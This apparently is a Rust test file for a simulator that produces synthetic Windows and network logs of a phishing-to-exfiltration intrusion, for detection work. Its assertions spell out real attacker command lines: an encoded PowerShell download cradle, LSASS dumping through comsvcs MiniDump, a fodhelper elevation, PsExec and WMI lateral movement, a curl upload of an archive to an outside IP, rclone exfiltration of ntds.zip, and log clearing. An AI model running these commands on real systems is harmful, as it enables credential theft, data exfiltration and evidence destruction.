//! The Windows actions: phishing, persistence, beaconing, LSASS, lateral movement,
//! collection, exfiltration, log clearing and file deletion.

use std::collections::BTreeSet;

use super::{PHISHING, created, decode_base64, play_all, s, scenario, step, with};
use crate::emit::Stream;
use crate::scenario::Action;

#[test]
fn phishing_opens_the_document_and_runs_the_cradle() {
    let sc = scenario(PHISHING);
    let p = play_all(&sc, 1);
    let ev = p.json("phish", Stream::Sysmon);
    let saved = ev
        .iter()
        .find(|v| v["EventID"] == 11 && s(v, "TargetFilename").ends_with("invoice_0302.docm"))
        .unwrap();
    assert!(s(saved, "Image").ends_with("OUTLOOK.EXE"));
    assert!(s(saved, "TargetFilename").contains("\\INetCache\\Content.Outlook\\"));
    let word = created(&ev, "\\WINWORD.EXE")[0];
    assert!(s(word, "ParentImage").ends_with("OUTLOOK.EXE"));
    assert!(s(word, "CommandLine").contains("invoice_0302.docm"));
    let ps = created(&ev, "\\powershell.exe")[0];
    assert!(s(ps, "ParentImage").ends_with("WINWORD.EXE"));
    assert_eq!(s(ps, "ParentProcessGuid"), s(word, "ProcessGuid"));
    let cmd = s(ps, "CommandLine");
    let b64 = cmd
        .strip_prefix("powershell.exe -nop -w hidden -enc ")
        .unwrap();
    let script = sc.campaign.actor.domain.clone();
    let decoded: Vec<u16> = decode_base64(b64)
        .chunks(2)
        .map(|c| u16::from_le_bytes([c[0], c[1]]))
        .collect();
    let text = String::from_utf16(&decoded).unwrap();
    assert!(
        text.contains("DownloadFile") && text.contains(&script),
        "{text}"
    );
    let dns = ev.iter().find(|v| v["EventID"] == 22).unwrap();
    assert_eq!(s(dns, "QueryName"), "cdn-tanaka-trading.example");
    assert_eq!(s(dns, "Image"), s(ps, "Image"));
    let net = ev.iter().find(|v| v["EventID"] == 3).unwrap();
    assert_eq!(s(net, "DestinationIp"), "203.0.113.66");
    assert_eq!(net["DestinationPort"], 443);
    let payload = "C:\\Users\\mtanaka\\AppData\\Roaming\\odsync.exe";
    assert!(
        ev.iter()
            .any(|v| v["EventID"] == 11 && s(v, "TargetFilename") == payload)
    );
    let implant = created(&ev, "odsync.exe")[0];
    assert_eq!(s(implant, "ParentProcessGuid"), s(ps, "ProcessGuid"));
    assert!(
        p.lines("phish", Stream::Proxy)[0]
            .contains("\"CONNECT cdn-tanaka-trading.example:443 HTTP/1.1\" 200")
    );
    assert!(
        p.json("phish", Stream::ZeekConn)
            .iter()
            .any(|v| v["id.resp_h"] == "203.0.113.66" && v["id.resp_p"] == 443)
    );
    assert!(
        p.json("phish", Stream::ZeekDns)
            .iter()
            .any(|v| v["query"] == "cdn-tanaka-trading.example")
    );
    let ws = p.world.host("WS-ACCT-07").unwrap();
    assert_eq!(p.state.foothold(ws).unwrap().implant.image, payload);
}

#[test]
fn scheduled_task_is_created_from_the_implant_and_runs() {
    let p = play_all(&scenario(PHISHING), 2);
    let ev = p.json("persist", Stream::Sysmon);
    let schtasks = created(&ev, "\\schtasks.exe")[0];
    let cmd = s(schtasks, "CommandLine");
    assert!(cmd.contains("/create /sc minute /mo 30 /tn \"OneDrive Sync Helper\" /tr \"C:\\Users\\mtanaka\\AppData\\Roaming\\odsync.exe\" /f"), "{cmd}");
    assert!(s(schtasks, "ParentImage").ends_with("cmd.exe"));
    let shell = created(&ev, "\\cmd.exe")[0];
    assert!(s(shell, "ParentImage").ends_with("odsync.exe"));
    let task = &p.events("persist", Stream::Security, 4698)[0];
    assert_eq!(s(task, "TaskName"), "\\OneDrive Sync Helper");
    assert!(s(task, "TaskContent").contains("odsync.exe"));
    let runs: Vec<_> = created(&ev, "odsync.exe");
    assert!(runs.len() > 20, "{}", runs.len());
    assert!(
        runs.iter()
            .all(|r| s(r, "ParentCommandLine").contains("-s Schedule"))
    );
}

#[test]
fn beacon_checks_in_with_jitter() {
    let p = play_all(&scenario(PHISHING), 3);
    let ev = p.json("c2", Stream::Sysmon);
    let conns: Vec<_> = ev.iter().filter(|v| v["EventID"] == 3).collect();
    // 20 h at 5 m ± 30 %.
    assert!((200..=280).contains(&conns.len()), "{}", conns.len());
    assert!(
        conns
            .iter()
            .all(|v| s(v, "Image").ends_with("odsync.exe") && v["DestinationPort"] == 443)
    );
    let lookups = ev.iter().filter(|v| v["EventID"] == 22).count();
    assert!((15..=25).contains(&lookups), "{lookups}");
    let times: Vec<i64> = p.of("c2", Stream::Proxy).iter().map(|r| r.time).collect();
    assert_eq!(times.len(), conns.len());
    let gaps: BTreeSet<i64> = times
        .windows(2)
        .map(|w| (w[1] - w[0]) / 1_000_000_000)
        .collect();
    assert!(gaps.iter().all(|g| (200..=400).contains(g)), "{gaps:?}");
    assert!(gaps.len() > 20, "jittered");
    let zeek = p.json("c2", Stream::ZeekConn);
    assert!(
        zeek.iter()
            .all(|v| v["orig_bytes"].as_u64().unwrap() < 2_000)
    );
}

#[test]
fn lsass_is_dumped_with_comsvcs() {
    let p = play_all(&scenario(PHISHING), 4);
    let ev = p.json("creds", Stream::Sysmon);
    let rundll = created(&ev, "\\rundll32.exe")[0];
    let cmd = s(rundll, "CommandLine");
    assert!(
        cmd.starts_with("rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump "),
        "{cmd}"
    );
    assert!(
        cmd.ends_with(".dmp full") && cmd.contains("C:\\Windows\\Temp\\"),
        "{cmd}"
    );
    assert_eq!(s(rundll, "IntegrityLevel"), "High");
    let access: Vec<_> = ev.iter().filter(|v| v["EventID"] == 10).collect();
    assert_eq!(access.len(), 2);
    for a in &access {
        assert_eq!(s(a, "TargetImage"), "C:\\Windows\\system32\\lsass.exe");
        assert!(cmd.contains(&format!("MiniDump {} ", a["TargetProcessId"])));
        assert_eq!(s(a, "SourceImage"), "C:\\Windows\\System32\\rundll32.exe");
    }
    let full = access
        .iter()
        .find(|a| a["GrantedAccess"] == "0x1FFFFF")
        .unwrap();
    assert!(
        s(full, "CallTrace").contains("dbgcore.DLL+")
            && s(full, "CallTrace").contains("comsvcs.dll+")
    );
    assert!(access.iter().any(|a| a["GrantedAccess"] == "0x1410"));
    assert!(
        ev.iter()
            .any(|v| v["EventID"] == 11 && s(v, "TargetFilename").ends_with(".dmp"))
    );
    assert!(
        ev.iter()
            .any(|v| v["EventID"] == 23 && s(v, "TargetFilename").ends_with(".dmp"))
    );
    // Elevated through fodhelper first.
    let fod = created(&ev, "\\fodhelper.exe")[0];
    let elevated = created(&ev, "odsync.exe")[0];
    assert_eq!(s(elevated, "ParentProcessGuid"), s(fod, "ProcessGuid"));
    assert_eq!(s(elevated, "IntegrityLevel"), "High");
    assert!(ev.iter().any(|v| v["EventID"] == 13
        && s(v, "TargetObject").ends_with("\\ms-settings\\Shell\\Open\\command\\(Default)")));
}

#[test]
fn psexec_lateral_movement_leaves_both_ends() {
    let p = play_all(&scenario(PHISHING), 5);
    let security = p.json("lateral", Stream::Security);
    let logons: Vec<_> = security
        .iter()
        .filter(|v| v["EventID"] == 4624 && v["LogonType"] == 3)
        .collect();
    assert!(!logons.is_empty());
    for l in &logons {
        assert_eq!(s(l, "Computer"), "FS01.corp.example");
        assert_eq!(s(l, "TargetUserName"), "admin.suzuki");
        assert_eq!(s(l, "IpAddress"), "10.10.20.107");
        assert_eq!(s(l, "AuthenticationPackageName"), "NTLM");
    }
    assert!(
        security
            .iter()
            .any(|v| v["EventID"] == 5140 && v["ShareName"] == "\\\\*\\ADMIN$")
    );
    assert!(
        security
            .iter()
            .any(|v| v["EventID"] == 4648 && v["Computer"] == "WS-ACCT-07.corp.example")
    );
    let system = p.events("lateral", Stream::System, 7045);
    assert_eq!(s(&system[0], "ServiceName"), "PSEXESVC");
    let ev = p.json("lateral", Stream::Sysmon);
    let svc = created(&ev, "\\PSEXESVC.exe")[0];
    assert!(s(svc, "ParentImage").ends_with("services.exe"));
    let cmd = created(&ev, "\\cmd.exe")
        .into_iter()
        .find(|v| s(v, "Computer") == "FS01.corp.example")
        .unwrap();
    assert_eq!(s(cmd, "ParentImage"), "C:\\Windows\\PSEXESVC.exe");
    assert_eq!(s(cmd, "User"), "CORP\\admin.suzuki");
    assert!(ev.iter().any(|v| v["EventID"] == 3
        && v["Computer"] == "WS-ACCT-07.corp.example"
        && v["DestinationIp"] == "10.10.10.20"
        && v["DestinationPort"] == 445));
    let psexec = created(&ev, "\\PsExec64.exe")[0];
    assert!(
        s(psexec, "CommandLine").contains("\\\\10.10.10.20 -accepteula -u CORP\\admin.suzuki -p ")
    );
    assert!(
        p.json("lateral", Stream::ZeekConn)
            .iter()
            .any(|v| v["id.resp_p"] == 445 && v["id.resp_h"] == "10.10.10.20")
    );
    let fs = p.world.host("FS01").unwrap();
    let f = p.state.foothold(fs).unwrap();
    assert_eq!(f.account, "CORP\\admin.suzuki");
}

#[test]
fn exfiltration_over_dns_is_a_burst_of_encoded_queries_by_the_implant() {
    let p = play_all(&scenario(PHISHING), 6);
    let queries = p.events("exfil-dns", Stream::Sysmon, 22);
    // 120,000 bytes at 60 per query.
    assert_eq!(queries.len(), 2_000);
    let implant = &p
        .state
        .foothold(p.world.host("WS-ACCT-07").unwrap())
        .unwrap()
        .implant;
    let mut names = std::collections::HashSet::new();
    for q in &queries {
        assert_eq!(s(q, "Image"), implant.image);
        let name = s(q, "QueryName");
        let labels: Vec<&str> = name.split('.').collect();
        assert!(name.ends_with(".cdn-tanaka-trading.example"), "{name}");
        assert_eq!(labels[1].len(), 48, "{name}");
        assert!(
            labels[1]
                .bytes()
                .all(|b| b.is_ascii_lowercase() || (b'2'..=b'7').contains(&b))
        );
        names.insert(name);
    }
    assert_eq!(names.len(), queries.len(), "every query distinct");
    // The resolver sees the same queries.
    assert_eq!(p.lines("exfil-dns", Stream::ZeekDns).len(), 2_000);
}

#[test]
fn collection_exfiltration_and_log_clearing_on_windows() {
    let p = play_all(&scenario(PHISHING), 6);
    let ev = p.json("collect", Stream::Sysmon);
    let sz = created(&ev, "\\7z.exe")[0];
    let cmd = s(sz, "CommandLine");
    assert!(
        cmd.contains(" a -t7z -mhe=on -p")
            && cmd.contains("C:\\ProgramData\\acct.7z D:\\Shares\\Accounting\\*"),
        "{cmd}"
    );
    // The FS01 implant (from PsExec) is the grandparent.
    assert!(s(sz, "ParentImage").ends_with("cmd.exe"));
    assert!(
        ev.iter()
            .any(|v| v["EventID"] == 11 && v["TargetFilename"] == "C:\\ProgramData\\acct.7z")
    );

    let ev = p.json("exfil", Stream::Sysmon);
    let curl = created(&ev, "\\curl.exe")[0];
    assert_eq!(
        s(curl, "CommandLine"),
        "curl.exe -k -X POST --data-binary @C:\\ProgramData\\acct.7z https://203.0.113.99/upload"
    );
    assert!(
        ev.iter()
            .any(|v| v["EventID"] == 3 && v["DestinationIp"] == "203.0.113.99")
    );
    let conn = p
        .json("exfil", Stream::ZeekConn)
        .into_iter()
        .find(|v| v["id.resp_h"] == "203.0.113.99")
        .unwrap();
    assert!(conn["orig_bytes"].as_u64().unwrap() >= 1_850_000_000);
    assert!(p.lines("exfil", Stream::Firewall)[0].contains("act=accept"));
    assert!(p.lines("exfil", Stream::Proxy)[0].contains("CONNECT 203.0.113.99:443"));

    for (id, host) in [
        ("wipe-fs", "FS01.corp.example"),
        ("wipe-ws", "WS-ACCT-07.corp.example"),
    ] {
        let ev = p.json(id, Stream::Sysmon);
        let wevtutil = created(&ev, "\\wevtutil.exe");
        let cmds: Vec<String> = wevtutil.iter().map(|v| s(v, "CommandLine")).collect();
        assert_eq!(cmds, ["wevtutil cl Security", "wevtutil cl System"], "{id}");
        assert!(
            wevtutil
                .iter()
                .all(|v| s(v, "ParentImage").ends_with("cmd.exe") && s(v, "Computer") == host)
        );
        assert_eq!(p.events(id, Stream::Security, 1102).len(), 1);
        assert_eq!(p.events(id, Stream::System, 104).len(), 1);
    }
}

/// The actions the shipped scenarios do not use, on a copy of the phishing scenario.
#[test]
fn other_windows_actions() {
    let mut sc = scenario(PHISHING);
    sc.duration = "4d".to_string();
    let steps = &mut sc.campaign.steps;
    steps.push(with(
        step("svc", Action::ServiceInstall, "FS01"),
        Some("admin.suzuki"),
        None,
        &[
            ("service", "SyncSvc"),
            ("payload", "C:\\Windows\\Temp\\syncsvc.exe"),
        ],
    ));
    steps.push(with(
        step("run", Action::RunKey, "WS-ACCT-07"),
        Some("mtanaka"),
        None,
        &[("name", "OneDriveHelper")],
    ));
    steps.push(with(
        step("wmi", Action::LateralWmi, "DC01"),
        Some("admin.suzuki"),
        Some("WS-ACCT-07"),
        &[],
    ));
    steps.push(with(
        step("rdp", Action::LateralRdp, "WS-IT-01"),
        Some("admin.suzuki"),
        Some("FS01"),
        &[],
    ));
    steps.push(with(
        step("guess", Action::BruteForce, "WS-SALES-02"),
        Some("ysato"),
        None,
        &[("attempts", "25"), ("succeed", "true")],
    ));
    steps.push(with(
        step("del", Action::DeleteFiles, "FS01"),
        Some("admin.suzuki"),
        None,
        &[(
            "files",
            "C:\\ProgramData\\acct.7z C:\\Windows\\Temp\\odsync.exe",
        )],
    ));
    steps.push(with(
        step("sdel", Action::DeleteFiles, "WS-ACCT-07"),
        Some("mtanaka"),
        None,
        &[
            ("tool", "sdelete"),
            ("files", "C:\\Users\\mtanaka\\AppData\\Roaming\\odsync.exe"),
        ],
    ));
    steps.push(with(
        step("rclone", Action::Exfiltrate, "DC01"),
        Some("admin.suzuki"),
        None,
        &[
            ("tool", "rclone"),
            ("file", "C:\\ProgramData\\ntds.zip"),
            ("bytes", "90000000"),
        ],
    ));
    let p = play_all(&sc, 10);

    let ev = p.json("svc", Stream::Sysmon);
    let sc_exe = created(&ev, "\\sc.exe")[0];
    assert!(
        s(sc_exe, "CommandLine")
            .contains("create SyncSvc binPath= \"C:\\Windows\\Temp\\syncsvc.exe\" start= auto")
    );
    let svc = &p.events("svc", Stream::System, 7045)[0];
    assert_eq!(s(svc, "StartType"), "auto start");
    assert!(
        ev.iter().any(|v| v["EventID"] == 13
            && s(v, "TargetObject").ends_with("\\Services\\SyncSvc\\ImagePath"))
    );

    let ev = p.json("run", Stream::Sysmon);
    let reg = created(&ev, "\\reg.exe")[0];
    assert!(s(reg, "CommandLine").starts_with("reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v \"OneDriveHelper\" /t REG_SZ /d "));
    let set = ev.iter().find(|v| v["EventID"] == 13).unwrap();
    assert!(s(set, "TargetObject").starts_with("HKU\\S-1-5-21-"));
    assert!(
        s(set, "TargetObject")
            .ends_with("\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDriveHelper")
    );
    assert_eq!(
        s(set, "Details"),
        "C:\\Users\\mtanaka\\AppData\\Roaming\\odsync.exe"
    );

    let ev = p.json("wmi", Stream::Sysmon);
    let wmic = created(&ev, "\\WMIC.exe")[0];
    assert!(
        s(wmic, "CommandLine")
            .starts_with("wmic /node:10.10.10.5 /user:CORP\\admin.suzuki /password:")
    );
    let spawned = created(&ev, "\\cmd.exe")
        .into_iter()
        .find(|v| v["Computer"] == "DC01.corp.example")
        .unwrap();
    assert!(s(spawned, "ParentImage").ends_with("WmiPrvSE.exe"));
    // The command runs in the caller's network logon session, as WMI starts it.
    let logon = p
        .events("wmi", Stream::Security, 4624)
        .into_iter()
        .find(|v| v["LogonType"] == 3 && v["IpAddress"] == "10.10.20.107")
        .expect("the caller's network logon");
    assert_eq!(s(spawned, "LogonId"), s(&logon, "TargetLogonId"));

    let ev = p.json("rdp", Stream::Sysmon);
    let mstsc = created(&ev, "\\mstsc.exe")[0];
    assert!(s(mstsc, "CommandLine").ends_with("/v:10.10.20.120"));
    assert!(!created(&ev, "\\rdpclip.exe").is_empty());
    assert!(
        p.events("rdp", Stream::Security, 4624)
            .iter()
            .any(|v| v["LogonType"] == 10 && v["IpAddress"] == "10.10.10.20")
    );
    assert!(
        p.json("rdp", Stream::ZeekConn)
            .iter()
            .any(|v| v["id.resp_p"] == 3389)
    );

    let fails = p.events("guess", Stream::Security, 4625);
    assert_eq!(fails.len(), 25);
    assert!(
        fails
            .iter()
            .all(|v| v["IpAddress"] == "203.0.113.66" && v["LogonType"] == 3)
    );
    assert_eq!(p.events("guess", Stream::Security, 4624).len(), 1);

    let deleted: Vec<String> = p
        .events("del", Stream::Sysmon, 23)
        .iter()
        .map(|v| s(v, "TargetFilename"))
        .collect();
    assert_eq!(
        deleted,
        ["C:\\ProgramData\\acct.7z", "C:\\Windows\\Temp\\odsync.exe"]
    );
    let ev = p.json("del", Stream::Sysmon);
    assert!(
        created(&ev, "\\cmd.exe")
            .iter()
            .any(|v| s(v, "CommandLine").contains("/C del /f /q C:\\ProgramData\\acct.7z"))
    );
    let ev = p.json("sdel", Stream::Sysmon);
    assert!(
        created(&ev, "\\sdelete64.exe")[0]["CommandLine"]
            .as_str()
            .unwrap()
            .contains("-accepteula -p 3 C:\\Users\\mtanaka\\AppData\\Roaming\\odsync.exe")
    );
    assert_eq!(p.events("sdel", Stream::Sysmon, 23).len(), 1);

    let ev = p.json("rclone", Stream::Sysmon);
    assert!(
        s(created(&ev, "\\rclone.exe")[0], "CommandLine")
            .contains("copy C:\\ProgramData\\ntds.zip dav:upload")
    );
}
